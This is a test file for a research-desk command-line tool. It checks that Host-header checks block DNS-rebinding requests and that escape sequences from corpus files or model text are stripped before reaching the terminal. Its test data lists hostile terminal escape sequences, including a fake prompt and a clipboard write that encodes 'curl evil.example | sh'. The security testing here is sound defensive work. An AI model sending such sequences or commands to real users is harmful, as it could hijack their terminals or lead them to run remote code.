/**
 * The research desk does not leak or obey its corpus (issue 32): `--web` answers only loopback host
 * names (and the one the user passes), so a DNS-rebinding page cannot read the answer; escape sequences
 * in a corpus file or a model's text never reach the terminal.
 */
import { spawn } from 'node:child_process'
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { request as httpRequest } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import fc from 'fast-check'
import { afterAll, describe, expect, it } from 'vitest'
import { parseOptions } from './src/options.js'
import { plainText } from './src/plain-text.js'
import { terminalOutput } from './src/terminal.js'
import { startWebView } from './src/web-view.js'

// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it finds
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/
const CONTROLS = new RegExp(CONTROL.source, 'g')
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it finds
const OWN_COLORS = /\u001b\[[0-9;]*m/g

const HERE = fileURLToPath(new URL('.', import.meta.url))
const MAIN = fileURLToPath(new URL('./src/main.ts', import.meta.url))
const FIXTURE = fileURLToPath(new URL('./fixtures/corpus', import.meta.url))

const dirs: string[] = []
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true })
})

/** A GET with the Host a rebinding browser would send (fetch cannot set Host). */
function get(url: string, host: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const request = httpRequest(url, { headers: { host } })
    request.on('response', (response) => {
      let body = ''
      response.setEncoding('utf8')
      response.on('data', (chunk: string) => {
        body += chunk
        // The event stream stays open: its first frames are enough.
        if (url.endsWith('/events') && body.includes('\n\n')) response.destroy()
      })
      const done = () => resolve({ status: response.statusCode ?? 0, body })
      response.on('end', done)
      response.on('close', done)
    })
    request.on('error', reject)
    request.end()
  })
}

describe('--web checks Host', () => {
  it('refuses DNS-rebinding names for the page and the event stream, and serves loopback names', async () => {
    const web = await startWebView({ port: 0, question: 'What is the secret plan?' })
    try {
      web.answer('The plan is in vault 7.', [])
      const port = new URL(web.url).port
      for (const host of [
        `127.0.0.1.nip.io:${port}`,
        `evil.example:${port}`,
        `localhost:${Number(port) + 1}`,
        'localhost',
      ]) {
        for (const path of ['', 'events']) {
          const answer = await get(`${web.url}${path}`, host)
          expect(answer.status, `${host} /${path}`).toBe(403)
          expect(answer.body).not.toContain('secret plan')
          expect(answer.body).not.toContain('vault 7')
        }
      }
      for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `LOCALHOST:${port}`]) {
        const page = await get(web.url, host)
        expect(page.status, host).toBe(200)
        expect(page.body).toContain('secret plan')
        const events = await get(`${web.url}events`, host)
        expect(events.body).toContain('vault 7')
      }
    } finally {
      await web.close()
    }
  })

  it('also answers the one host name the user passes with --web-host', async () => {
    const web = await startWebView({ port: 0, question: 'q', host: 'desk.internal' })
    try {
      const port = new URL(web.url).port
      expect((await get(web.url, `desk.internal:${port}`)).status).toBe(200)
      expect((await get(web.url, `desk.internal.evil.example:${port}`)).status).toBe(403)
    } finally {
      await web.close()
    }
    expect(parseOptions(['q', '--web', '--web-host', 'desk.internal:8080'], '/tmp').webHost).toBe(
      'desk.internal:8080',
    )
    expect(() => parseOptions(['q', '--web-host', 'evil/host'], '/tmp')).toThrow(/--web-host/)
  })
})

const ESCAPES = [
  '\u001b]0;pwned title\u0007', // window title (OSC 0)
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007', // clipboard write (OSC 52)
  '\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\', // hyperlink (OSC 8, ST-terminated)
  '\u001b[2J\u001b[H', // screen clear, cursor home (CSI)
  '\u001b[31;1m', // colors (CSI SGR)
  '\u001bP+q544e\u001b\\', // DCS request
  '\u001b_apc\u001b\\', // APC string
  '\u009b2J', // 8-bit CSI
  '\u009d0;t\u0007', // 8-bit OSC
  '\u001bc', // full reset (RIS)
  '\r\u001b[Kfake prompt $ ', // carriage return and erase line
]

describe('nothing from a file or a model reaches the terminal as a control sequence', () => {
  it('strips every kind of escape sequence and control character, and keeps text, newlines and tabs', () => {
    for (const sequence of ESCAPES) {
      const clean = plainText(`before ${sequence} after`)
      expect(clean, JSON.stringify(sequence)).not.toMatch(CONTROL)
      expect(clean.startsWith('before ')).toBe(true)
      expect(clean.endsWith(' after')).toBe(true)
    }
    expect(plainText('a\tb\nc\r\nd — ü 🦦')).toBe('a\tb\nc\nd — ü 🦦')
  })

  it('property: output never holds a control character; text without controls is unchanged', () => {
    const pieces = fc.oneof(
      fc.constantFrom(...ESCAPES, '\u001b', '\u001b[', '\u001b]', '\u0007', '\u009b', '\n', '\t', '\r'),
      fc.string(),
      fc.string({ unit: 'binary' }),
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 20 }), (parts) => {
        const clean = plainText(parts.join(''))
        expect(clean).not.toMatch(CONTROL)
        expect(plainText(clean)).toBe(clean)
      }),
    )
    fc.assert(
      fc.property(fc.string(), (text) => {
        const safe = text.replace(CONTROLS, '')
        expect(plainText(safe)).toBe(safe)
      }),
    )
  })

  it('the terminal output strips what answers, passages, tool inputs and errors carry', () => {
    let printed = ''
    const write = (text: string) => {
      printed += text
    }
    const output = terminalOutput({ out: write, err: write })
    const hostile = ESCAPES.join(' x ')
    // A sequence split across two stream chunks cannot get through either.
    output.event({ type: 'text-delta', text: 'The answer \u001b' } as never)
    output.event({ type: 'text-delta', text: ']52;c;ZXZpbA==\u0007 is 42.' } as never)
    output.event({ type: 'tool-start', toolId: 'desk_search', input: { query: hostile } } as never)
    output.event({ type: 'tool-failed', toolId: 'desk_read', error: new Error(hostile) } as never)
    output.answer({
      text: hostile,
      streamed: false,
      note: hostile,
      citations: [
        { id: 'p1', file: `otters${ESCAPES[0]}.md`, lines: '1-3', headings: hostile, text: hostile } as never,
      ],
    })
    output.pending(
      [{ toolCallId: 'c1', toolId: 'desk_read', input: { id: hostile }, reason: hostile } as never],
      'again',
    )
    output.failure(hostile, 1)
    output.info(hostile)
    // The desk's own colors (SGR) may remain; nothing else of an escape does.
    const withoutOwnColors = printed.replace(OWN_COLORS, '')
    expect(withoutOwnColors).not.toMatch(CONTROL)
    expect(printed).toContain('pwned title')
    expect(printed).toContain('is 42.')
  })

  it('a corpus file full of escape sequences prints as plain text (the desk end to end)', async () => {
    const root = mkdtempSync(join(tmpdir(), 'desk-escapes-'))
    dirs.push(root)
    const corpus = join(root, 'corpus')
    cpSync(FIXTURE, corpus, { recursive: true })
    writeFileSync(
      join(corpus, 'otters.md'),
      `# Sea otters ${ESCAPES[0]}\n\nSea otters hold hands while they sleep ${ESCAPES.join(' ')} so that they do not drift apart.\n`,
    )
    const env: NodeJS.ProcessEnv = {
      ...process.env,
      RESEARCH_DESK_STREAM_DELAY_MS: '0',
      FORCE_COLOR: '1',
      INIT_CWD: root,
    }
    for (const key of Object.keys(env)) if (key.startsWith('OPENAI_') || key === 'NO_COLOR') delete env[key]
    const child = spawn(
      process.execPath,
      [
        '--conditions=@agent-core/source',
        '--import',
        'tsx',
        MAIN,
        'Why do sea otters hold hands?',
        '--corpus',
        corpus,
        '--data',
        join(root, 'data'),
      ],
      { cwd: HERE, env, stdio: ['ignore', 'pipe', 'pipe'] },
    )
    let printed = ''
    child.stdout.on('data', (chunk) => {
      printed += String(chunk)
    })
    child.stderr.on('data', (chunk) => {
      printed += String(chunk)
    })
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve))
    expect(code, printed).toBe(0)
    expect(printed).toContain('otters.md')
    expect(printed).toContain('hold hands')
    const withoutOwnColors = printed.replace(OWN_COLORS, '')
    expect(withoutOwnColors).not.toMatch(CONTROL)
  }, 120_000)
})
